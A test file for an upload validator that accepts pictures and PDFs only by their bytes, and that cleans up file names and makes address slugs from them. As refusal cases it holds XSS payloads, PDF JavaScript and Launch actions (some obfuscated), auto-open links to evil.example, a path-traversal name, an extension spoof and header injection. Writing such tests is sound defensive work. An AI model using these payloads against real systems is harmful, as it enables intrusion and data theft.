/** What is uploaded is what its bytes say: everything else is refused in words that help. */
import { randomBytes } from "node:crypto";
import { deflateSync } from "node:zlib";
import { expect, it } from "vitest";
import { itemName, itemSlug } from "./add-item.ts";
import { pdfOf } from "./library.test-kit.ts";
import { FILE_MAX, recognizeFile } from "./recognize-file.ts";

const refusal = (content: Buffer | string) => {
  const found = recognizeFile(typeof content === "string" ? Buffer.from(content, "latin1") : content);
  return found.kind === "refused" ? found.reason : found.kind;
};
const ftyp = (...brands: string[]) =>
  Buffer.concat([
    Buffer.from([0, 0, 0, 12 + 4 * brands.length]),
    Buffer.from(`ftyp${brands[0]}\0\0\0\0${brands.slice(1).join("")}`, "latin1"),
    Buffer.alloc(40),
  ]);

it("knows pictures and PDFs by their bytes", () => {
  expect(refusal("\xff\xd8\xff\xe0 and so on")).toBe("picture");
  expect(refusal("\x89PNG\r\n\x1a\n and so on")).toBe("picture");
  expect(refusal("GIF89a and so on")).toBe("picture");
  expect(refusal("RIFF\0\0\0\0WEBPVP8 ")).toBe("picture");
  expect(refusal(ftyp("avif", "mif1"))).toBe("picture");
  expect(refusal(ftyp("mif1", "avif"))).toBe("picture");
  expect(refusal(pdfOf())).toBe("pdf");
});

it.each([
  ["zero bytes", Buffer.alloc(0), "empty"],
  ["a PDF of 20 MB and a byte", pdfOf(FILE_MAX + 1).subarray(0, FILE_MAX + 1), "larger than 20 MB"],
  ["a HEIC photo", ftyp("heic", "mif1"), "iPhones"],
  ["a HEIC photo by its second name", ftyp("mif1", "heic"), "iPhones"],
  ["an SVG with a script", "<svg onload='alert(1)'><script>alert(1)</script></svg>", "SVG"],
  ["an SVG behind an XML head", "<?xml version='1.0'?><!-- x --><svg/>", "SVG"],
  ["a web page", " \n<!DOCTYPE html><script>alert(1)</script>", "web page"],
  ["an Office document", "PK\x03\x04 word/document.xml", "Save it as PDF"],
  ["a program", "MZ\x90\0\x03", "file can’t be used here"],
  ["a PDF behind something else", `x${pdfOf()}`, "file can’t be used here"],
  ["a PDF that was cut off", pdfOf(4000).subarray(0, 3000), "incomplete"],
  ["a head and nothing else", "%PDF-1.7\n", "incomplete"],
  ["a PDF of no version", "%PDF-\0\0\0 <html>", "version"],
  ["an end that points nowhere", "%PDF-1.7\nstartxref\n99999\n%%EOF", "incomplete"],
  ["an end that points at something else", "%PDF-1.7\n<script>\nstartxref\n9\n%%EOF", "incomplete"],
  ["an archive behind a PDF", Buffer.concat([pdfOf(), Buffer.from("PK\x03\x04 hidden")]), "attached"],
  ["a page behind a PDF", Buffer.concat([pdfOf(), Buffer.from("<script>alert(1)</script>")]), "attached"],
])("refuses %s", (_name, content, words) => {
  expect(refusal(content)).toContain(words);
});

const withObjects = (objects: string, trailer = "") => pdfOf(200, "Five questions", objects, trailer);
const packed = (text: string, numbers: string, filter = "/FlateDecode") => {
  const body = deflateSync(Buffer.from(`${numbers} ${text}`)).toString("latin1");
  return `7 0 obj\n<< /Type /ObjStm /N 1 /First ${numbers.length + 1} /Filter ${filter} /Length ${body.length} >>\nstream\n${body}\nendstream\nendobj\n`;
};

it.each([
  ["a script", "2 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n"],
  ["a script in other letters", "2 0 obj\n<< /#53 /J#61vaScr#69pt /JS (x) >>\nendobj\n"],
  ["a script behind a remark", "2 0 obj\n<< /S %\n/JavaScript /JS (x) >>\nendobj\n"],
  ["a script in an object stream", packed("<</S/JavaScript/JS(x)>>", "2 0")],
  [
    "a script in what looks like a stream",
    "2 0 obj\n<<>>\nstream\n3 0 obj <</S/JavaScript/JS(x)>> endobj\nendstream\n",
  ],
  ["a program to start", "2 0 obj\n<< /S /Launch /F (calc.exe) >>\nendobj\n"],
  ["a form that sends", "2 0 obj\n<< /S /SubmitForm /F (https://evil.example) >>\nendobj\n"],
  [
    "an address to open at once",
    "2 0 obj\n<< /OpenAction << /S /URI /URI (https://evil.example) >> >>\nendobj\n",
  ],
  [
    "the same by reference",
    "2 0 obj\n<< /OpenAction 3 0 R >>\nendobj\n3 0 obj\n<< /S /URI /URI (x) >>\nendobj\n",
  ],
  ["an action that is nowhere", "2 0 obj\n<< /OpenAction 99 0 R >>\nendobj\n"],
])("refuses a PDF with %s", (_name, objects) => {
  expect(refusal(withObjects(objects))).toContain("contains a script");
});

it.each([
  ["that is encrypted", withObjects("", "/Encrypt 9 0 R ")],
  [
    "with an object stream that cannot be read",
    withObjects(packed("<<>>", "2 0", "[/ASCIIHexDecode /FlateDecode]")),
  ],
])("refuses a PDF %s", (_name, content) => expect(refusal(content)).toContain("protected"));

it.each([
  ["opens at a page", "2 0 obj\n<< /OpenAction [3 0 R /FitH null] >>\nendobj\n"],
  [
    "opens at a page by reference",
    "2 0 obj\n<< /OpenAction 3 0 R >>\nendobj\n3 0 obj\n<< /S /GoTo /D [4 0 R /Fit] >>\nendobj\n",
  ],
  [
    "opens at a page of an object stream",
    `2 0 obj\n<< /OpenAction 3 0 R >>\nendobj\n${packed("<</S/GoTo/D[4 0 R/Fit]>>", "3 0")}`,
  ],
  ["has links", "2 0 obj\n<< /S /URI /URI (https://foyer.example/JavaScript/Launch) >>\nendobj\n"],
])("takes a PDF that %s", (_name, objects) => expect(refusal(withObjects(objects))).toBe("pdf"));

it("checks 20 MB of anything in seconds, not hours", () => {
  const noise = randomBytes(19 * 1024 * 1024).toString("latin1");
  const began = performance.now();
  expect(refusal(withObjects(`2 0 obj\n<<>>\nstream\n${noise}\nendstream\nendobj\n`))).toBe("pdf");
  for (const hostile of ["/S%", "/OpenAction ", "stream\n", "trailer ", "/XRef /ObjStm stream\n"])
    refusal(withObjects(hostile.repeat(2_000_000 / hostile.length)));
  expect(performance.now() - began).toBeLessThan(20_000);
});

it("takes a PDF of exactly 20 MB, and one with a line break after its end", () => {
  const long = pdfOf(FILE_MAX - 40);
  expect(long.length).toBeLessThanOrEqual(FILE_MAX);
  expect(refusal(long)).toBe("pdf");
  expect(refusal(Buffer.concat([pdfOf(), Buffer.from("\r\n\r\n")]))).toBe("pdf");
});

it.each([
  ["../../etc/passwd", "passwd"],
  ["C:\\Users\\nina\\photo.jpg", "photo.jpg"],
  ["<img src=x onerror=alert(1)>.jpg", "img src=x onerror=alert(1).jpg"],
  ["gpj.\u202eexe", "gpj.exe"],
  ["..", "Untitled"],
  ["", "Untitled"],
  ["a\u0000b\r\nSet-Cookie: x.pdf", "abSet-Cookie x.pdf"],
  ["\ud800.pdf", "\ufffd.pdf"],
  ["é".repeat(500), "é".repeat(120)],
])("calls %j what a person can read", (given, name) => {
  expect(itemName(given)).toBe(name);
});

it("makes an address of any name", () => {
  for (const name of ["Fünf Fragen.pdf", "..", "__proto__", "<b>", "日本語.pdf", `${"long ".repeat(80)}.pdf`])
    expect(itemSlug(name, "key")).toMatch(/^[a-z0-9]+(-[a-z0-9]+)*-[0-9a-f]{8}$/);
  expect(itemSlug("Fünf Fragen.pdf", "a")).toMatch(/^funf-fragen-/);
  expect(itemSlug("a", "one")).not.toBe(itemSlug("a", "other"));
});
